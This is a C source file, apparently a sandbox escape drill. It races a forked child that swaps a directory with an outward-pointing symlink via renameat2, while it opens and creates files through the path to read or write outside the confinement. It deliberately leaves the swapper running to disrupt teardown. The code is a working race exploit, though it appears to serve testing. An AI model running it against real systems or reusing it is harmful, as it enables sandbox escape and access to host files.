/* attack.c - swaps a folder and a link that leads out, while files are opened and made through the name
 *
 * If it worked, whatever resolves a path in two steps (look, then use) would be led to the machine's files. One child
 * goes on swapping after the end, so that taking the cage down meets it too. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2

static double seconds(void)
{
    struct timespec now;

    (void)clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec / 1e9;
}

static pid_t start_swapper(void)
{
    pid_t pid = fork();

    if (pid != 0)
        return pid;
    (void)alarm(5);
    for (;;)
        (void)syscall(SYS_renameat2, AT_FDCWD, "swap", AT_FDCWD, "link", EXCHANGE);
}

int main(int argc, char **argv)
{
    const char *control = getenv("DRILL_CONTROL"), *leaf = argc > 1 ? strrchr(argv[1], '/') : NULL;
    char outside[4096], through[512], bytes[256], made[4096];
    double end = seconds() + 1;
    int reached = 0, rounds = 0;
    pid_t swapper;

    if (argc < 4 || !leaf || chdir(control ? argv[3] : "/work") < 0)
        return 77;
    (void)snprintf(outside, sizeof(outside), "%.*s", (int)(leaf - argv[1]), argv[1]);
    (void)snprintf(through, sizeof(through), "swap%s", leaf);
    (void)snprintf(made, sizeof(made), "%s/raced", argv[2]);
    if (mkdir("swap", 0755) < 0 || symlink(outside, "link") < 0 || (swapper = start_swapper()) < 0)
        return 1;
    for (; seconds() < end && !reached; rounds++) {
        int fd = open(through, O_RDONLY);
        ssize_t got = fd < 0 ? -1 : read(fd, bytes, sizeof(bytes));
        if (got > 0 && write(1, bytes, (size_t)got) > 0)
            reached = 1;
        if (fd >= 0)
            (void)close(fd);
        fd = open(made, O_CREAT | O_EXCL | O_WRONLY, 0600);
        if (fd >= 0) {
            reached = 1;
            (void)close(fd);
            (void)unlink(made);
        }
    }
    printf("%d rounds, %s\n", rounds, reached ? "reached" : "nothing of the machine");
    if (control) {
        (void)kill(swapper, SIGKILL);
        (void)waitpid(swapper, NULL, 0);
        (void)unlink("link");
        (void)unlink("swap");
        (void)rmdir("swap");
        (void)rmdir("link");
    }
    return reached ? 10 : 0;
}
